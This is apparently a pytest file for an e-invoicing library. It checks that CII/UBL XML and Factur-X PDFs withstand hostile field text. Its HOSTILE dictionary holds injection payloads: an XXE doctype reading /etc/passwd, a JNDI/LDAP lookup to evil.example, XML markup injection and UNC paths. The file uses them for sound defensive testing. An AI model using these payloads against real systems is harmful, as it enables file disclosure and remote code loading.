"""Texts that mean harm: no file is opened, no line is dialled, nothing breaks out of its place, nothing is lost."""

from __future__ import annotations

import io
import sys
from typing import Any

import attrs
import pytest
from PIL import Image
from tests.einvoice.kinds import issued, line

from salespipeline.domain.document import Document
from salespipeline.domain.lines import Tax
from salespipeline.einvoice import Invoice, problems_of, terms_of
from salespipeline.einvoice.reading import embedded
from salespipeline.einvoice.writing import cii, ubl
from salespipeline.render.pdf import PdfRenderer
from salespipeline.views import view_of

etree = pytest.importorskip("lxml.etree", reason="pip install 'salespipeline[einvoice]'")
pytest.importorskip("facturx", reason="pip install 'salespipeline[einvoice]'")

HOSTILE = {
    "markup": "</ram:Name><ram:ID>1</ram:ID><ram:Name>",
    "entity": "&lol; &#0; &amp; %s {0} ${jndi:ldap://evil.example/a}",
    "cdata": "]]> <![CDATA[ x ]]> <!-- -- -->",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "nil": '<a xsi:nil="true"/> xsi:nil="true"',
    "instruction": "<?xml version='1.0'?> <?xpacket end='w'?>",
    "quotes": "\"'`´’ \\ \\\\ (unbalanced",
    "address": "http://evil.example/x.png file:///etc/passwd \\\\evil\\share",
    "wide": "名前 🦊 שלום مرحبا ꙮ",
    "long": "x" * 5000,
    "spaces": "\u00a0\u202f\u3000a\u2060\u200bb",
    "number": "1e309",
}
PLACES: dict[str, Any] = {
    "note": lambda one, text: attrs.evolve(one, note=text),
    "subject": lambda one, text: attrs.evolve(one, subject=text),
    "terms": lambda one, text: attrs.evolve(one, terms=text),
    "legal": lambda one, text: attrs.evolve(one, legal_notes=(("AAI", text),)),
    "reference": lambda one, text: attrs.evolve(one, reference=text),
    "customer's": lambda one, text: attrs.evolve(one, customer_reference=text),
    "line": lambda one, text: attrs.evolve(one, lines=(attrs.evolve(one.lines[0], description=f"{text}\n{text}", reference=text),)),
    "unit": lambda one, text: attrs.evolve(one, lines=(attrs.evolve(one.lines[0], unit=text),)),
    "reason": lambda one, text: attrs.evolve(one, lines=(attrs.evolve(one.lines[0], tax=Tax(category="E", reason=text)),)),
    "seller": lambda one, text: attrs.evolve(one, seller=attrs.evolve(one.seller, name=text, city=text, phone=text)),
    "buyer": lambda one, text: attrs.evolve(
        one, buyer=attrs.evolve(one.buyer, name=text, person=text, address=(text,) * 4, postcode=text)
    ),
    "ids": lambda one, text: attrs.evolve(one, buyer=attrs.evolve(one.buyer, ids=(("company_number", text), ("0088", text)))),
    "bank": lambda one, text: attrs.evolve(one, payment_details=(("account_number", text), ("payment_terms", text))),
}  # fmt: skip
MOST = {"line": 200, "unit": 20, "reason": 500}  # where the domain takes no more
SALES, ISSUED = issued("DE", lines=[line(tax=19)])


def invoice_of(document: Document) -> Invoice:
    return Invoice(
        document=document, seller=document.seller, buyer=document.buyer, date=document.date, due=document.due,
        payment=document.payment_details, legal_notes=document.legal_notes,
    )  # fmt: skip


def written(document: Document) -> tuple[bytes, bytes]:
    invoice = invoice_of(document)
    return cii(terms_of(invoice), "en16931", name="x"), ubl(terms_of(invoice), "en16931", name="x")


def shape(content: bytes) -> list[str]:
    return [one.tag for one in etree.fromstring(content).iter()]


@pytest.mark.parametrize("place", PLACES)
def test_no_text_breaks_out_of_its_place(place: str) -> None:
    for text in (one[: MOST.get(place)] for one in HOSTILE.values()):
        tame, wild = PLACES[place](ISSUED, "x"), PLACES[place](ISSUED, text)
        assert [one for one in problems_of(invoice_of(wild)) if one.code in ("character", "long")] == []
        for before, after in zip(written(tame), written(wild), strict=True):
            assert shape(after) == shape(before)
            said = " ".join(etree.fromstring(after).itertext())
            assert "".join(text.split()) in "".join(said.split())


def test_the_names_in_the_metadata_are_what_they_are() -> None:
    renderer = PdfRenderer()
    for text in HOSTILE.values():
        name = text[:150]
        document = attrs.evolve(ISSUED, seller=attrs.evolve(ISSUED.seller, name=name))
        view = view_of(document, None, SALES.settings.snapshot, today=document.date)
        xml = written(document)[0]
        content = renderer.facturx(view, xml, "en16931").content
        assert embedded(content) == xml
        start = content.index(b"<x:xmpmeta")
        metadata = etree.fromstring(content[start : content.index(b"</x:xmpmeta>") + len(b"</x:xmpmeta>")])
        (creator,) = metadata.iter("{http://purl.org/dc/elements/1.1/}creator")
        assert "".join(creator.itertext()).strip() == name.strip()


def test_no_file_is_opened_and_no_line_is_dialled() -> None:
    view = view_of(ISSUED, None, SALES.settings.snapshot, today=ISSUED.date)
    renderer = PdfRenderer()

    def everything(document: Document) -> None:
        invoice = invoice_of(document)
        problems_of(invoice)
        xml, _ = written(document)
        embedded(renderer.facturx(view, xml, "en16931").content)

    everything(ISSUED)  # what is read once a process is read
    seen: list[tuple[str, object]] = []
    watching = [True]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if watching[0] and event in ("open", "os.system", "subprocess.Popen", "socket.connect", "socket.getaddrinfo"):
            seen.append((event, args[0]))

    sys.addaudithook(hook)
    try:
        for text in HOSTILE.values():
            document = ISSUED
            for name, place in PLACES.items():
                document = place(document, text[: MOST.get(name)])
            everything(document)
    finally:
        watching[0] = False
    assert [one for one in seen if not str(one[1]).endswith((".py", ".pyc"))] == []


def test_what_cannot_be_written_is_a_typed_error_that_names_the_document() -> None:
    from salespipeline.errors import RenderError

    with pytest.raises(RenderError, match="x could not be written") as refused:
        written(attrs.evolve(ISSUED, note="a\x00b"))
    assert (refused.value.document, refused.value.part) == ("x", "einvoice")


def test_what_the_schema_refuses_is_never_handed_out() -> None:
    from salespipeline.errors import RenderError

    for write in (cii, ubl):
        terms = terms_of(invoice_of(ISSUED)) | {"BG-25": []}
        with pytest.raises(RenderError, match="the schema says"):
            write(terms, "en16931", name="x")


# --- PDF/A, whatever is drawn ------------------------------------------------------------------------------


def picture(mode: str, kind: str) -> bytes:
    file = io.BytesIO()
    Image.new(mode, (300, 120), 120 if mode in ("L", "1") else (120,) * len(mode)).save(file, kind)
    return file.getvalue()


@pytest.mark.parametrize(
    ("mode", "kind"), [("RGB", "PNG"), ("RGBA", "PNG"), ("L", "PNG"), ("LA", "PNG"), ("1", "PNG"), ("RGB", "JPEG"), ("L", "JPEG")]
)  # fmt: skip
def test_a_logo_stays_within_pdf_a(mode: str, kind: str) -> None:
    page = pytest.importorskip("page", reason="pip install page-validation")
    view = view_of(ISSUED, None, SALES.settings.snapshot, today=ISSUED.date, logo=picture(mode, kind))
    report = page.validate_pdf_bytes(PdfRenderer().facturx(view, b"<a/>", "en16931").content, profile="3b")
    assert [(one.rule_id, one.message) for one in report.failures] == []


@pytest.mark.parametrize("fast", [True, False])
@pytest.mark.parametrize("text", ["", "名前 🦊 שלום مرحبا ﷽ e\u0301 \u2060", "Ωμέγα Ж ẞ €"])
def test_letters_that_no_font_has_stay_within_pdf_a(fast: bool, text: str) -> None:
    page = pytest.importorskip("page", reason="pip install page-validation")
    document = attrs.evolve(ISSUED, note=text, lines=(line(description=text or "x"),) * 90)
    view = view_of(document, None, SALES.settings.snapshot, today=document.date)
    renderer = PdfRenderer()
    renderer._fast = fast
    drawn = renderer.facturx(view, b"<a/>", "extended")
    assert drawn.pages > 2
    assert ("名" in drawn.missing_glyphs) == ("名" in text)
    report = page.validate_pdf_bytes(drawn.content, profile="3b")
    assert [(one.rule_id, one.message) for one in report.failures] == []


def test_ten_thousand_lines_are_written() -> None:
    document = attrs.evolve(ISSUED, lines=(line("1.01", tax=19),) * 10_000)
    assert problems_of(invoice_of(document)) == ()
    content = cii(terms_of(invoice_of(document)), "en16931", name="x")
    assert content.count(b"<ram:IncludedSupplyChainTradeLineItem>") == 10_000
